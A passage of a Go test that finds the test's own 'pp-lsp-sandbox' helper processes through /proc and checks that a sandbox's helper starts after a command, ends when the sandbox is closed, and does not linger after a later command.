	helpers := func() map[string]bool {
		out := map[string]bool{}
		ents, _ := os.ReadDir("/proc")
		for _, e := range ents {
			stat, err := os.ReadFile("/proc/" + e.Name() + "/stat")
			if err != nil {
				continue
			}
			// pid (comm) state ppid …
			f := strings.Fields(string(stat[bytes.LastIndexByte(stat, ')')+1:]))
			if len(f) > 1 && f[1] == strconv.Itoa(os.Getpid()) {
				if cmd, _ := os.ReadFile("/proc/" + e.Name() + "/cmdline"); bytes.HasPrefix(cmd, []byte("pp-lsp-sandbox\x00")) {
					out[e.Name()] = true
				}
			}
		}
		return out
	}
	others := helpers()
	mine := func() []string {
		var out []string
		for p := range helpers() {
			if !others[p] {
				out = append(out, p)
			}
		}
		return out
	}
	w := newWorld(t)
	sb := w.sandbox(t)
	code, _, err := sh(t, sb, w.root, "true")
	require.NoError(t, err)
	require.Equal(t, 0, code)
	require.Eventually(t, func() bool { return len(mine()) == 1 }, 10*time.Second, 10*time.Millisecond, "a helper waits for the next command")
	sb.Close()
	assert.Eventually(t, func() bool { return len(mine()) == 0 }, 10*time.Second, 10*time.Millisecond, "Close ended it")
	code, _, err = sh(t, sb, w.root, "true")
	require.NoError(t, err)
	assert.Equal(t, 0, code, "a command after Close runs")
	assert.Eventually(t, func() bool { return len(mine()) == 0 }, 10*time.Second, 10*time.Millisecond, "and none is left waiting")
}
